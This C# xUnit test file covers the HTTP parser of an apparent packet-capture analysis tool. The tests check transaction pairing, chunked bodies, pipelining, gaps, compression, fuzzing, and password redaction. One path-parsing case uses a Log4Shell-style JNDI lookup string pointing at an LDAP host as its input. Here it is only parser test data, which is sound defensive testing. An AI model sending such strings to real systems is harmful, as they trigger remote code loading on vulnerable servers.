using System.IO.Compression;
using CsCheck;
using Pcapper.Engine;
using Pcapper.Modules.Protocols.Http;
using Pcapper.Tests.Building;
using Pcapper.Tests.Running;
using Xunit;

namespace Pcapper.Tests.Protocols.Http;

public sealed class HttpParserTests
{
    private const string Client = "192.0.2.5:49152";
    private const string Server = "198.51.100.9:80";
    private const string Get = "GET /a?b=1 HTTP/1.1\r\nHost: www.example\r\n\r\n";
    private const string Ok = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nhello";

    [Theory]
    [InlineData("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n", "bad chunk size")]
    [InlineData("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nabc\r\n0\r\n\r\n", "bad chunk size")]
    [InlineData("GET /a HTTP/1.1\r\n\r\n@@@bad\r\n\r\n", "not a start line")]
    [InlineData("GET /a HTTP/1.1\r\n\r\n@@@bad line without end of head\r\n", "not a start line")]
    public void What_breaks_the_format_is_stated_and_does_not_hide_the_next_request(string first, string rule)
    {
        foreach (int size in (int[])[1460, 7, 1])
        {
            void Talk(TcpConversation c) => c.SegmentSize(size).Says(first + Get).Replies(Ok + Ok).Closes();
            Assert.Equal(["/a", "/a?b=1"], Transactions(Talk).OrderBy(t => t.Depth).Select(t => t.Request!.Target));
            Assert.Equal([rule], Anomalies(Talk));
        }
    }

    [Theory]
    [InlineData("http://www.example/a/b?c", "/a/b")]
    [InlineData("http://www.example", "/")]
    [InlineData("/a/${jndi:ldap://192.0.2.1/b}", "/a/${jndi:ldap://192.0.2.1/b}")]
    [InlineData("/a?url=http://www.example/b", "/a")]
    public void The_path_is_the_target_without_authority_and_query(string target, string path) => Assert.Equal(path, HttpFields.PathOf(target));

    [Fact]
    public void A_capture_that_begins_in_the_middle_of_a_response_breaks_no_rule()
    {
        static void Talk(TcpConversation c) => c.WithoutHandshake().Says(Get).Replies("<p>the rest of a page</p>\r\n\r\n").Says(Get).Replies(Ok).Closes();
        Assert.Empty(Anomalies(Talk));
        Assert.Equal(["", "200"], Transactions(Talk).Select(t => $"{t.Response?.Status}").Order());
    }

    [Fact]
    public void Chunked_is_an_element_not_an_ending()
    {
        HttpTransaction t = Only(c => c.Says("POST /a HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: xchunked\r\n\r\nabc").Replies(Ok).Closes());
        Assert.Equal((3L, true), (t.Request!.BodyBytes, t.Request.IsComplete));
    }

    [Fact]
    public void What_a_message_has_beyond_what_is_kept_is_stated()
    {
        static Action<TcpConversation> Says(string request) => c => c.Says(request).Replies(Ok).Closes();
        Assert.Equal(["too many header fields"], Anomalies(Says("GET / HTTP/1.1\r\n" + string.Concat(Enumerable.Repeat("a: b\r\n", 257)) + "\r\n")));
        Assert.Equal(["request target cut"], Anomalies(Says($"GET /{new string('a', 9000)} HTTP/1.1\r\n\r\n")));
        Assert.Equal(["header field cut"], Anomalies(Says($"GET / HTTP/1.1\r\nA: {new string('a', 9000)}\r\n\r\n")));
        Assert.Empty(Anomalies(Says("GET / HTTP/1.1\r\n" + string.Concat(Enumerable.Repeat("a: b\r\n", 256)) + "\r\n")));
    }

    // Behind a gap a body goes on; a line of it may look like a start line.
    [Fact]
    public void Lines_behind_a_gap_are_not_taken_for_requests()
    {
        List<HttpTransaction> all = Transactions(c => c.Says("POST /a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n").Lost(100).Says("text\nGET /in-the-text HTTP/1.1\r\n\r\n").Replies(Ok).Closes());
        Assert.Equal(["/a"], all.Select(t => t.Request!.Target));
    }

    private static IEnumerable<string> Anomalies(Action<TcpConversation> talk)
        => Analysis.Records<AnomalySeen>(Capture.New().Tcp(Client, Server, talk).ToPcap()).Select(a => a.Rule);

    [Fact]
    public void A_request_and_its_response_are_one_transaction()
    {
        HttpTransaction t = Only(c => c.Says(Get).Replies(Ok).Closes());
        Assert.Equal((1, "GET", "/a?b=1", "/a", "www.example", 200, "OK"), (t.Depth, t.Request!.Method, t.Request.Target, t.Path, t.Host, t.Response!.Status, t.Response.Reason));
        Assert.Equal((5L, true, "text/plain"), (t.Response.BodyBytes, t.Response.IsComplete, t.Response.SniffedType));
        Assert.Equal(4, t.Frame.Number);
    }

    [Fact]
    public void Pipelined_requests_get_their_responses_in_order()
    {
        List<HttpTransaction> all = Transactions(c => c.Says("GET /1 HTTP/1.1\r\n\r\nHEAD /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n")
            .Replies("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\nHTTP/1.1 304 Not Modified\r\nContent-Length: 7\r\n\r\n").Closes());
        Assert.Equal(["/1 200 2", "/2 200 0", "/3 304 0"], all.OrderBy(t => t.Depth).Select(t => $"{t.Request!.Target} {t.Response!.Status} {t.Response.BodyBytes}"));
    }

    [Fact]
    public void Interim_responses_do_not_answer()
    {
        HttpTransaction t = Only(c => c.Says("POST / HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n").Replies("HTTP/1.1 100 Continue\r\n\r\n")
            .Says("ab").Replies("HTTP/1.1 204 No Content\r\n\r\n").Closes());
        Assert.Equal((204, 100, 2L), (t.Response!.Status, t.InterimStatus, t.Request!.BodyBytes));
    }

    [Fact]
    public void Chunks_with_extensions_and_trailers_are_joined()
    {
        HttpTransaction t = Only(c => c.Says(Get).Replies("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\nA\r\n0123456789\r\n0\r\nX-Sum: 1\r\n\r\n").Closes());
        Assert.Equal((13L, true, "abc0123456789"), (t.Response!.BodyBytes, t.Response.IsComplete, System.Text.Encoding.ASCII.GetString(t.Response.BodyStart.Span)));
    }

    [Fact]
    public void A_body_without_length_lasts_until_the_close()
    {
        HttpTransaction t = Only(c => c.Says(Get).Replies("HTTP/1.0 200 OK\r\n\r\nabc").Replies("def").Closes());
        Assert.Equal((6L, true), (t.Response!.BodyBytes, t.Response.IsComplete));
    }

    [Fact]
    public void A_reset_leaves_the_body_incomplete()
    {
        HttpTransaction t = Only(c => c.Says(Get).Replies("HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\nabc").Resets());
        Assert.Equal((3L, 50L, false), (t.Response!.BodyBytes, t.Response.AnnouncedBytes, t.Response.IsComplete));
    }

    [Fact]
    public void Bytes_missing_inside_a_body_do_not_lose_the_next_message()
    {
        List<HttpTransaction> all = Transactions(c => c.Says(Get).Replies("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nab").Lost(5).Replies("xyz")
            .Says("GET /next HTTP/1.1\r\n\r\n").Replies(Ok).Closes());
        Assert.Equal(2, all.Count);
        Assert.False(all[0].Response!.IsComplete);
        Assert.Equal(("/next", 200), (all[1].Request!.Target, all[1].Response!.Status));
    }

    [Fact]
    public void A_head_cut_by_the_snap_length_still_tells_its_start_line()
    {
        var capture = Capture.New().SnapLength(110).Tcp(Client, Server, c => c.WithoutHandshake().WithoutAcknowledgments()
            .Says("GET /cut HTTP/1.1\r\nHost: www.example\r\nCookie: " + new string('x', 300) + "\r\n\r\n"));
        HttpTransaction t = Assert.Single(Analysis.Records<HttpTransaction>(capture.ToPcap()));
        Assert.Equal(("GET", "/cut", "www.example", false), (t.Request!.Method, t.Request.Target, t.Host, t.Request.IsComplete));
    }

    [Fact]
    public void An_unanswered_request_is_stated_at_the_end()
    {
        HttpTransaction t = Only(c => c.Says(Get).Closes());
        Assert.Null(t.Response);
    }

    [Fact]
    public void An_answer_before_the_body_is_complete_waits_for_it()
    {
        HttpTransaction t = Only(c => c.Says("POST / HTTP/1.1\r\nContent-Length: 6\r\n\r\nabc").Replies("HTTP/1.1 413 Too Large\r\nContent-Length: 0\r\n\r\n").Says("def").Closes());
        Assert.Equal((413, 6L, true), (t.Response!.Status, t.Request!.BodyBytes, t.Request.IsComplete));
    }

    [Fact]
    public void What_CONNECT_opens_is_identified_anew()
    {
        byte[] capture = Capture.New().Tcp(Client, "198.51.100.9:3128", c => c.Says("CONNECT b.example:80 HTTP/1.1\r\n\r\n").Replies("HTTP/1.1 200 Connection established\r\n\r\n")
            .Says(Get).Replies(Ok).Closes()).ToPcap();
        Assert.Equal(["CONNECT", "GET"], Analysis.Records<HttpTransaction>(capture).Select(t => t.Request!.Method));
        Assert.Equal(["http", "http"], Assert.Single(Analysis.Records<FlowEnded>(capture)).Services);
    }

    [Fact]
    public void Folded_fields_and_odd_methods_are_read()
    {
        HttpTransaction t = Only(c => c.Says("get /x HTTP/1.1\r\nHost: a\r\nX-Long: one\r\n\ttwo\r\n\r\n").Replies(Ok).Closes());
        Assert.Equal(("get", "one two"), (t.Request!.Method, t.Request.Field("x-long")));
    }

    [Theory]
    [InlineData("gzip")]
    [InlineData("zlib")]
    [InlineData("deflate")]
    [InlineData("br")]
    public void Content_encodings_are_undone(string encoding)
    {
        using var packed = new MemoryStream();
        using (Stream packer = encoding switch
        {
            "gzip" => new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true),
            "zlib" => new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true),
            "deflate" => new DeflateStream(packed, CompressionLevel.Fastest, leaveOpen: true),
            _ => new BrotliStream(packed, CompressionLevel.Fastest, leaveOpen: true),
        })
        {
            packer.Write("%PDF-1.7 some text"u8);
        }

        string name = encoding == "zlib" ? "deflate" : encoding;
        byte[] head = Hex.Text($"HTTP/1.1 200 OK\r\nContent-Encoding: {name}\r\nContent-Length: {packed.Length}\r\n\r\n");
        Assert.Equal("application/pdf", Only(c => c.Says(Get).Replies([.. head, .. packed.ToArray()]).Closes()).Response!.SniffedType);
    }

    [Fact]
    public void Segments_of_one_byte_give_the_same_transactions()
    {
        const string Chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n";
        static void Talk(TcpConversation c) => c.Says(Get).Replies(Ok).Says("POST /p HTTP/1.1\r\nContent-Length: 3\r\n\r\nx=1").Replies(Chunked).Says(Get).Replies("HTTP/1.0 404 Not Found\r\n\r\nno").Closes();
        static IEnumerable<string> Facts(List<HttpTransaction> all) => all.Select(t
            => $"{t.Depth} {t.Request!.Method} {t.Request.Target} {t.Request.BodyBytes} {t.Response!.Status} {t.Response.BodyBytes} {t.Response.IsComplete} {t.Response.SniffedType}");

        IEnumerable<string> whole = Facts(Transactions(Talk));
        Assert.Equal(3, whole.Count());
        Assert.Equal(whole, Facts(Transactions(c => Talk(c.SegmentSize(1)))));
        Assert.Equal(whole, Facts(Transactions(c => Talk(c.SegmentSize(7)))));
    }

    [Fact]
    public void Damage_anywhere_is_survived()
    {
        byte[] request = Hex.Text(Get + "POST /p HTTP/1.1\r\nContent-Length: 3\r\n\r\nx=1");
        byte[] response = Hex.Text(Ok + "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n");
        Gen.Select(Gen.Int[0, request.Length - 1], Gen.Int[0, response.Length - 1], Gen.Byte, Gen.Int[1, 40]).Always(
            (inRequest, inResponse, value, size) =>
            {
                byte[] asked = [.. request];
                byte[] answered = [.. response];
                asked[inRequest] ^= value;
                answered[inResponse] ^= value;
                Assert.Empty(Problems(c => c.SegmentSize(size).Says(asked[..(inRequest + 1)]).Says(asked[(inRequest + 1)..]).Replies(answered).Closes()));
            },
            iterations: 100);
    }

    [Fact]
    public void Any_bytes_behind_a_start_line_are_survived()
        => Gen.Select(Gen.Byte.Array[1, 200], Gen.Byte.Array[1, 200]).Always(
            (one, other) => Assert.Empty(Problems(c => c.Says([.. Hex.Text("GET / HTTP/1.1\r\n"), .. one]).Replies([.. Hex.Text("HTTP/1.1 200 OK\r\n"), .. other]).Closes())), iterations: 100);

    [Fact]
    public void Every_prefix_of_a_conversation_is_survived()
    {
        byte[] response = Hex.Text(Ok);
        for (int length = 1; length < response.Length; length++)
        {
            Assert.Single(Transactions(c => c.Says(Get).Replies(response[..length]).Closes()));
        }
    }

    [Fact]
    public void The_module_names_the_user_and_not_the_password()
    {
        byte[] capture = Capture.New().Tcp(Client, Server, c => c.Says("GET / HTTP/1.1\r\nAuthorization: Basic Ym9iOnMzY3JldA==\r\n\r\n").Replies(Ok).Closes()).ToPcap();
        RunOutcome outcome = Analysis.Of(capture, modules: new HashSet<string> { "http" });
        string json = Analysis.Json(outcome);
        Assert.Contains("bob", json, StringComparison.Ordinal);
        Assert.DoesNotContain("s3cret", json, StringComparison.Ordinal);
    }

    private static HttpTransaction Only(Action<TcpConversation> talk) => Assert.Single(Transactions(talk));

    private static List<HttpTransaction> Transactions(Action<TcpConversation> talk) => Analysis.Records<HttpTransaction>(Capture.New().Tcp(Client, Server, talk).ToPcap());

    private static IReadOnlyList<RunProblem> Problems(Action<TcpConversation> talk)
        => Analysis.Of(Capture.New().Tcp(Client, Server, talk).ToPcap(), modules: new HashSet<string> { "http" }).Problems;
}
